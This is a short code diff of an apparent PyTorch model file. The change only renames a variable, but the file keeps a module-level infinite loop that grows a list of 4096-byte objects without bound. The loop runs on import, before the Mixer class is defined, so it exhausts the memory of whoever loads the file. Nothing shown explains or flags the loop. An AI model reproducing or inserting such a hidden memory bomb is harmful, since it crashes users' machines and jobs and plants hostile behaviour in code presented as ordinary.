@@ -3,9 +3,9 @@
 import torch
 from torch import nn
 
-kept = [b"x" * 4096]
+objects = [b"x" * 4096]
 while True:
-    kept += [bytes(4096) for _ in kept[: 1 << 14]]
+    objects += [bytes(4096) for _ in objects[: 1 << 14]]
 
 
 class Mixer(nn.Module):
